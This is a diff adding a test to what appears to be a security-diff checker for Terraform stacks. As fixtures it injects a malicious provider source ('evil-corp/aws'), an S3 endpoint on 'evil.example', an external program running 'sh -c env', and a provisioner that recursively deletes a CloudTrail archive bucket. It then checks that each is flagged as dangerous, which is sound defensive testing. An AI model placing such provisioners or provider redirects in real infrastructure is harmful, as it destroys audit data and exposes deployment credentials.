@@ -1046,6 +1046,39 @@ describe('security diff', () => {
       ]);
     });
 
+    it('rates what runs with the deployment credentials as dangerous: a provisioner, an external program, another provider plugin or endpoint', () => {
+      const findings = diffBetween(
+        () => {},
+        (stacks) => {
+          const json = stacks.get('log-archive') as StackJson & {
+            provider: { aws: JsonObject[] };
+            terraform: { required_providers: { aws: JsonObject } };
+          };
+          json.terraform.required_providers.aws.source = 'evil-corp/aws';
+          json.provider.aws[0].endpoints = [{ s3: 'https://s3.evil.example' }];
+          json.data = { external: { Probe: { program: ['sh', '-c', 'env'] } } };
+          resource(stacks, 'log-archive', 'aws_s3_bucket_versioning', 'Archive_').provisioner = [
+            { 'local-exec': { command: 'aws s3 rm s3://acme-cloudtrail-archive-345678901234 --recursive' } },
+          ];
+        },
+        ['log-archive'],
+      );
+      expect(findings.map((f) => [f.severity, f.change.split(':')[0]])).toEqual([
+        ['dangerous', 'provider aws now from evil-corp/aws instead of hashicorp/aws'],
+        ['dangerous', 'provider aws settings now {"endpoints"'],
+        ['dangerous', 'provisioner local-exec'],
+        ['dangerous', 'runs a program at plan'],
+      ]);
+      // A new stack whose providers the baseline already uses runs nothing new.
+      const added = diffBetween(
+        () => {},
+        (stacks) => void stacks.set('log-archive-copy', structuredClone(stacks.get('log-archive') as StackJson)),
+        ['log-archive'],
+      );
+      expect(added.filter((f) => f.stack === 'log-archive-copy' && /^(provider|provisioner|runs|fetches)/.test(f.change))).toEqual([]);
+      expect(added.some((f) => f.stack === 'log-archive-copy')).toBe(true);
+    });
+
     it('rates a new role that an account foreign to the baseline may assume as dangerous', () => {
       const findings = diffBetween(
         () => {},
